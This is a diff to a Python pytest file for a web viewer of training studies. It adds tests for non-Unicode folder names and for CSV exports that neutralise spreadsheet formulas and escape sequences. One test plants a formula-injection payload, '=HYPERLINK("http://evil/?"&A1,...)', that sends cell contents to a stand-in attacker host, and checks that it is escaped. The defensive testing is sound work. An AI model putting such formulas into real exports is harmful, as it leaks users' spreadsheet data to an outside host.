@@ -6,11 +6,14 @@ import os
 import re
 import shutil
 import sqlite3
+from contextlib import closing
 from html import unescape
 
 import pytest
 
 from evolr.errors import printable
+from evolr.training.task import Outcome
+from tests.study.test_following import land
 from tests.views.test_html import study
 from tests.web.served import EVIL, NAME, PAGES, STUDY, page_of, value
 from tests.web.serving import asked, serving
@@ -158,10 +161,27 @@ def test_a_csv_of_a_study_that_cannot_be_read_is_a_page_that_says_so(folder, add
 
 
 def test_names_that_are_no_unicode_stay_apart(folder, tmp_path):
-    for name in (b"\xff", b"\xfe"):
+    for name in (b"\xff", b"\xfe", rb"\xff"):
         place = os.path.join(os.fsencode(tmp_path), name)
         os.mkdir(place)
         shutil.copy(os.fsencode(folder / "small" / "study.db"), place)
     with serving(tmp_path) as address:
-        for name in ("%5Cxff", "%5Cxfe"):
+        for name in ("%5Cxff", "%5Cxfe", "%5Cxff%E2%80%B2"):
             assert asked(address, f"/study/{name}").status == 200
+
+
+def test_a_table_for_other_programs_has_no_formulas_and_no_orders_of_others(tmp_path):
+    with study(tmp_path / "run", generations=1) as found:
+        land(found, Outcome.failed('=HYPERLINK("http://evil/?"&A1,"ok")', 2), 0.5)
+    with closing(sqlite3.connect(tmp_path / "run" / "study.db")) as connection:
+        connection.execute("UPDATE individual SET operator = ?", ("@x<b>\x1b[31m",))
+        connection.execute("UPDATE trial SET pool = '=1+1'")
+        connection.commit()
+    with serving(tmp_path) as address:
+        (first, *_), *rows = csv.reader(io.StringIO(asked(address, "/study/run/trainings.csv").text))
+    assert first == "training"
+    assert rows
+    for row in rows:
+        assert row[3] == "'@x<b>\N{REPLACEMENT CHARACTER}[31m"
+        assert row[4] == "'=1+1"
+        assert row[10] in ("", """'=HYPERLINK("http://evil/?"&A1,"ok")""")
